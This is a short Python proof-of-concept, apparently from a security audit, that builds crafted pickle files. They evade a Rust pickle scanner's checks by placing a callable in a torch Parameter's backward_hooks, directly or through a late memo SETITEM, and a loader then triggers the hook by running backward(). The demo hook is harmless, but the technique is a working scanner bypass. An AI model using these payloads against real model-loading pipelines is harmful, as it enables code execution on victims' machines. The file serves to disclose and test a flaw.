"""F6: the `torch-rebuild-tensor`/`torch-parameter` checks say backward_hooks must be an empty
OrderedDict, but any OrderedDict the pickle built passes (value.rs `hooks()` only checks who
built it), and `items-from-literals` accepts a list holding globals. torch installs each value
as a hook that autograd calls with the gradient during `backward()`: the pickle chooses a
callable (any allowed global) that runs later, outside every reconstruction check.
The demo hook is `builtins.slice` (in `ml`): backward() calls it with the gradient and fails
on its result; a global with a side effect would have that effect.

Variant `late`: an EMPTY OrderedDict (which passes) is memoized, and after the rebuild the
pickle SETITEMs the hook into it through the memo; torch keeps that very dict.

Usage: python f6_backward_hooks.py build|build-late FILE ; python f6_backward_hooks.py load FILE
"""
import pickle
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pk import P  # noqa: E402


def payload():
    p = P(2)
    p.glob("torch._utils", "_rebuild_parameter").mark()
    p.glob("torch._utils", "_rebuild_meta_tensor_no_storage")
    p.mark().glob("torch", "float32").i(2).t1().i(1).t1().true().tup().reduce()
    p.true()
    # OrderedDict([(0, builtins.slice)])
    p.glob("collections", "OrderedDict").empty_list().i(0).glob("builtins", "slice").t2().append().t1().reduce()
    p.tup().reduce()
    return p.stop().bytes()


def payload_late():
    p = P(2)
    p.glob("torch._utils", "_rebuild_parameter").mark()
    p.glob("torch._utils", "_rebuild_meta_tensor_no_storage")
    p.mark().glob("torch", "float32").i(2).t1().i(1).t1().true().tup().reduce()
    p.true()
    p.glob("collections", "OrderedDict").t0().reduce().put(7)  # empty: passes the check
    p.tup().reduce()
    p.get(7).i(0).glob("builtins", "slice").setitem().pop()  # the hook, after the check
    return p.stop().bytes()


def load(path):
    import torch

    param = pickle.loads(open(path, "rb").read())
    print("loaded:", type(param).__name__, "hooks:", dict(param._backward_hooks), flush=True)
    try:
        (param * 2).sum().backward()
        print("backward ran without calling the pickle's hook")
    except Exception as e:  # noqa: BLE001
        print("backward called the pickle's hook:", type(e).__name__, str(e)[:200])
        sys.exit(5)


if __name__ == "__main__":
    if sys.argv[1] == "build":
        open(sys.argv[2], "wb").write(payload())
    elif sys.argv[1] == "build-late":
        open(sys.argv[2], "wb").write(payload_late())
    else:
        load(sys.argv[2])
